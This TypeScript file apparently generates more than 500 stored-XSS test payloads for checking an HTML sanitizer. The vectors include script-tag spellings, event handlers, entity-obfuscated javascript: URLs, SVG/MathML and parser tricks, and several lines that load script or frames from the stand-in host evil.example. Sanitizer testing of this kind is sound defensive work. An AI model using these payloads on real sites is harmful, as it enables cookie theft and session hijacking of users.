/**
 * Stored-XSS payloads for QUALITY B10, generated from classic vector families (OWASP filter
 * evasion cheat sheet, PortSwigger XSS cheat sheet): script tags in many spellings, event
 * handlers on many tags, script URLs with entity and whitespace obfuscation, SVG/MathML
 * namespaces, style expressions, embedding and form elements, meta refresh, base href,
 * template/noscript/comment parser tricks, and broken or nested markup.
 */
const JS = 'alert(document.cookie)';

const SCRIPT_TAGS = [
  `<script>${JS}</script>`,
  `<SCRIPT>${JS}</SCRIPT>`,
  `<ScRiPt>${JS}</sCrIpT>`,
  '<script src="https://evil.example/x.js"></script>',
  '<script src=//evil.example/x.js></script>',
  `<script/x>${JS}</script>`,
  `<script\t>${JS}</script>`,
  `<script\n>${JS}</script\n>`,
  `<script type="text/javascript">${JS}</script>`,
  `<script type=module>${JS}</script>`,
  `<scr<script>ipt>${JS}</scr</script>ipt>`,
  `<<script>${JS};//<</script>`,
  `<script>${JS}`,
  `<script async defer>${JS}</script >`,
  `<script>/*</script><script>*/${JS}</script>`,
  `<scr\u0000ipt>${JS}</script>`,
  `"><script>${JS}</script>`,
  `'><script>${JS}</script>`,
  `</title><script>${JS}</script>`,
  `</textarea><script>${JS}</script>`,
];

const HANDLER_TAGS = [
  'img src=x',
  'svg',
  'body',
  'a href="#"',
  'div',
  'p',
  'iframe',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'marquee',
  'object data=x',
  'span',
  'td',
  'select autofocus',
  'textarea autofocus',
  'button',
  'form',
  'image src=x',
  'style',
  'table background=x',
];
const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'ONERROR',
  'OnLoad',
];
const SEPARATORS = [' ', '/', '\n', '\t', ' /'];

const SCRIPT_URLS = [
  `javascript:${JS}`,
  `JaVaScRiPt:${JS}`,
  `java\tscript:${JS}`,
  `java\nscript:${JS}`,
  `java&#x09;script:${JS}`,
  `java&#9;script:${JS}`,
  `&#106;avascript:${JS}`,
  `&#x6A;avascript:${JS}`,
  `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${JS}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${JS}`,
  ` javascript:${JS}`,
  `\u0001javascript:${JS}`,
  `javascript&colon;${JS}`,
  `jav&#x0A;ascript:${JS}`,
  `javascript://%0a${JS}`,
  `vbscript:msgbox("x")`,
  `VBScript:msgbox("x")`,
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:image/svg+xml,<svg onload=alert(1)>',
  `livescript:${JS}`,
  `&Tab;javascript:${JS}`,
];
const URL_SINKS = [
  (u: string) => `<a href="${u}">x</a>`,
  (u: string) => `<a href='${u}'>x</a>`,
  (u: string) => `<a href=${u.replace(/\s/g, '')}>x</a>`,
  (u: string) => `<img src="${u}">`,
  (u: string) => `<iframe src="${u}"></iframe>`,
  (u: string) => `<form action="${u}"><input type=submit></form>`,
  (u: string) => `<button formaction="${u}">x</button>`,
  (u: string) => `<svg><a xlink:href="${u}"><text>x</text></a></svg>`,
  (u: string) => `<object data="${u}"></object>`,
  (u: string) => `<embed src="${u}">`,
  (u: string) => `<base href="${u}">`,
  (u: string) => `<link rel=stylesheet href="${u}">`,
  (u: string) => `<area href="${u}">`,
  (u: string) => `<video poster="${u}"></video>`,
  (u: string) => `<table background="${u}"><tr><td>x</td></tr></table>`,
  (u: string) => `<math href="${u}">x</math>`,
];

const MISC = [
  `<svg><script>${JS}</script></svg>`,
  `<svg><animate onbegin=${JS} attributeName=x dur=1s>`,
  '<svg><set attributeName=href to="javascript:alert(1)"/></svg>',
  `<svg><foreignObject><iframe src="javascript:${JS}"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${JS}>`,
  `<math><mi xlink:href="javascript:${JS}">x</mi></math>`,
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p STYLE="behavior:url(x.htc)">x</p>',
  "<style>@import 'javascript:alert(1)';</style>",
  '<style>body{background:url("javascript:alert(1)")}</style>',
  `<iframe srcdoc="<script>${JS}</script>"></iframe>`,
  '<iframe src="https://evil.example"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="x.class"></applet>',
  '<form><input name=x formaction=javascript:alert(1) type=submit></form>',
  '<isindex action=javascript:alert(1) type=image>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  `<template><script>${JS}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${JS}>"></noscript>`,
  `<noembed><img title="</noembed><img src=x onerror=${JS}>"></noembed>`,
  `<xmp><img title="</xmp><img src=x onerror=${JS}>"></xmp>`,
  `<textarea><img title="</textarea><img src=x onerror=${JS}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${JS}>"></title>`,
  `<!--<img src="--><img src=x onerror=${JS}//">`,
  `<![CDATA[<script>${JS}</script>]]>`,
  `<img src=x onerror=${JS}`,
  `<<img src=x onerror=${JS}>>`,
  `<a href="javascript:${JS}"`,
  `<a <img src=x onerror=${JS}>>x</a>`,
  `<img """><script>${JS}</script>">`,
  `<img src="x" onerror="${JS}" alt="<p>">`,
  `<p><a href="https://ok.example" onclick="${JS}">ok</a></p>`,
  `<p title="&quot;><script>${JS}</script>">x</p>`,
  `<a href="https://ok.example/" target="_blank">ok</a><img src="x" onerror="${JS}">`,
  `<img src="https://ok.example/a.png" onload="${JS}">`,
  `<IMG SRC=JaVaScRiPt:${JS}>`,
  '<IMG SRC=`javascript:alert("x")`>',
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<body onload=${JS}>`,
  `<svg/onload=${JS}>`,
  `<details/open/ontoggle=${JS}>`,
  `<input onfocus=${JS} autofocus>`,
  `<select onfocus=${JS} autofocus>`,
  `<video><source onerror=${JS}></video>`,
  `<audio src=x onerror=${JS}>`,
  `<marquee onstart=${JS}>x</marquee>`,
  `<div onpointerenter=${JS}>x</div>`,
  `<x contenteditable onblur=${JS}>x</x>`,
  `<a href="#" onmouseover="${JS}">x</a>`,
  `<table><td background="javascript:${JS}">x</td></table>`,
  `<link rel=import href="data:text/html,<script>${JS}</script>">`,
  `<portal src="https://evil.example"></portal>`,
  `<keygen autofocus onfocus=${JS}>`,
  `<dialog open onclose=${JS}>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${JS}'/></svg>#x"/></svg>`,
];

/** At least `min` distinct payloads (500 by default). */
export function xssPayloads(min = 500): string[] {
  const out = new Set<string>([...SCRIPT_TAGS, ...MISC]);
  for (const tag of HANDLER_TAGS) {
    const name = tag.split(' ')[0];
    EVENTS.forEach((ev, i) => {
      const sep = SEPARATORS[i % SEPARATORS.length];
      out.add(`<${tag}${sep}${ev}=${JS}>x</${name}>`);
      out.add(`<${tag} ${ev}="${JS}">`);
    });
  }
  for (const u of SCRIPT_URLS) for (const sink of URL_SINKS) out.add(sink(u));
  // Inside allowed markup too, where a sanitizer must keep the good and drop the bad.
  for (const p of [...out].slice(0, 120)) out.add(`<p>ok <strong>text</strong> ${p} <em>after</em></p>`);
  const list = [...out];
  if (list.length < min) throw new Error(`only ${list.length} payloads`);
  return list;
}
